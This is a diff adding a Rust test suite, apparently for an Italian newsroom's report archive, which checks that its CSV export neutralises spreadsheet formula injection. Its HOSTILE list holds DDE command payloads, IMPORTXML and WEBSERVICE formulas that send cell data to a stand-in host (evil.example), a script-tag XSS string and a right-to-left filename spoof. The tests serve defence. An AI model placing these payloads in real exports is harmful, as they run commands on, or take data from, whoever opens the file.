@@ -1,0 +1,180 @@
+//! The file as a spreadsheet reads it: every cell comes back as it was, in its place, and none of them is a formula.
+
+use proptest::prelude::*;
+
+use crate::domain::report::Stato;
+use crate::http::routes::archive::export::*;
+
+/// What people might put into an answer to harm whoever opens the export.
+const HOSTILE: [&str; 52] = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example/?\"&A1;\"clicca\")",
+    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\";CONCATENATE(A2:E2));\"//a\")",
+    "=WEBSERVICE(\"http://evil.example\")",
+    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    "+1+1",
+    "+393331234567",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "- un elenco",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@utente",
+    "\t=1+1",
+    "\r=1+1",
+    "\0=1+1",
+    "\n=1+1",
+    " =1+1",
+    "   +1",
+    "\u{A0}=1+1",
+    "\u{3000}@x",
+    "\u{200B}=1+1",
+    "\u{FEFF}=1+1",
+    " \u{200B} \t=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠x",
+    " ＝1+1",
+    "\"",
+    "\"\"",
+    "\"=1+1\"",
+    "a\";=1+1;\"b",
+    "a\",=1+1,\"b",
+    "a\"\r\n=1+1;\"b",
+    "\";\"",
+    ";",
+    ",",
+    ";=1+1",
+    ",=1+1",
+    "a;b,c\td",
+    "prima\nseconda",
+    "prima\r\nseconda\r\n",
+    "'=1+1",
+    "",
+    " ",
+    "<script>alert(1)</script>",
+    "\u{202E}fdp.exe",
+    "D'Àngelo, «però»",
+    "👩\u{200D}🚒;🚒",
+    "Țăranu €",
+    "x\0y",
+];
+
+/// The cells that a reader finds.
+fn read(text: &str, separator: u8) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .delimiter(separator)
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(text.as_bytes())
+        .deserialize()
+        .collect::<Result<_, _>>()
+        .unwrap()
+}
+
+fn written(cells: &[impl AsRef<str>]) -> String {
+    let mut line = Vec::new();
+    put_line(&mut line, cells);
+    String::from_utf8(line).unwrap()
+}
+
+/// Whether a spreadsheet would run it, told in another way than the code under test does.
+fn runs(cell: &str) -> bool {
+    let visible = cell.trim_start_matches(|character: char| {
+        character.is_whitespace() || "\"\u{200B}\u{FEFF}\u{2060}\u{AD}".contains(character)
+    });
+    visible.starts_with(['=', '+', '-', '@', '\0', '＝', '＋', '－', '＠'])
+}
+
+/// What is left of both where nothing but apostrophes was added.
+fn spoken(cell: &str) -> String {
+    cell.replace('\'', "")
+}
+
+/// Asserts that a row comes back, and that no separator makes a formula of it.
+fn assert_harmless(cells: &[impl AsRef<str>]) {
+    let line = written(cells);
+    for separator in [b',', b'\t', b';'] {
+        let found = read(&line, separator).concat();
+        let formula = found.iter().find(|cell| runs(cell));
+        assert_eq!(formula, None, "{:?}", char::from(separator));
+    }
+    let rows = read(&line, b';');
+    assert_eq!((rows.len(), rows[0].len()), (1, cells.len()));
+    for (cell, meant) in rows[0].iter().zip(cells) {
+        assert_eq!(spoken(cell), spoken(meant.as_ref()));
+    }
+}
+
+#[test]
+fn hostile_cells_come_back_as_text_whatever_separates_cells() {
+    assert_harmless(&HOSTILE);
+    for one in HOSTILE {
+        let parts = HOSTILE.map(|other| format!("racconto{one}{other}\n{other},{one}\t{other}"));
+        assert_harmless(&parts);
+    }
+}
+
+#[test]
+fn an_apostrophe_stands_where_a_formula_would_begin_and_nowhere_else() {
+    for (cell, written) in [
+        ("=1", "'=1"),
+        ("\t=1", "'\t'=1"),
+        ("\ra", "'\ra"),
+        ("a\n  ＝1", "a\n  '＝1"),
+        ("a,-1; +2\t@b", "a,'-1; '+2\t'@b"),
+    ] {
+        assert_eq!(read(&self::written(&[cell]), b';'), [[written]]);
+    }
+    let same = [
+        "1 = 1",
+        "a-b",
+        "x@esempio.it",
+        "a, b; c",
+        "l'una\nl'altra",
+        "ＡＢ＝",
+    ];
+    assert_eq!(read(&written(&same), b';'), [same]);
+}
+
+#[test]
+fn a_row_has_its_columns_in_order_and_the_time_of_the_newsroom() {
+    let received: Timestamp = "2026-07-01T22:05:00Z".parse().unwrap();
+    let row = SealedRow {
+        seq: 1,
+        id: "0000".to_owned(),
+        stato: Stato::InLavorazione,
+        data_creazione: received.as_millisecond(),
+        ..SealedRow::default()
+    };
+    let told = Told {
+        eta: 41,
+        nome: "Anna".into(),
+        cognome: "De \"Luca\"".into(),
+        telefono: "3123456789".into(),
+        email: "anna@esempio.it".into(),
+        indirizzo: "Via Roma 1; Milano".into(),
+        segnalazione: "Racconto\n\nINFORMAZIONI AGGIUNTIVE\nAltro".into(),
+    };
+    let mut line = Vec::new();
+    let rome = crate::clock::zone("Europe/Rome").unwrap();
+    let mut minute = Minute::default();
+    for another in [90_000, 59_999, -1] {
+        minute.of(row.data_creazione + another, &rome).unwrap();
+    }
+    let received = minute.of(row.data_creazione, &rome).unwrap();
+    put_report(&mut line, &row, &told, (received, None));
+    assert_eq!(
+        String::from_utf8(line).unwrap(),
+        "\"0000\";\"Anna De \"\"Luca\"\"\";\"3123456789\";\"anna@esempio.it\";\"Via Roma 1; Milano\";\
+         \"02/07/2026 00:05\";\"In lavorazione\";\"Racconto\n\nINFORMAZIONI AGGIUNTIVE\nAltro\"\r\n"
+    );
+}
+
+proptest! {
+    #[test]
+    fn any_row_comes_back(cells in proptest::collection::vec("[=+@＝\t\r\n \",;'a\u{200B}-]{0,9}|.*", 1..9)) {
+        assert_harmless(&cells);
+    }
+}
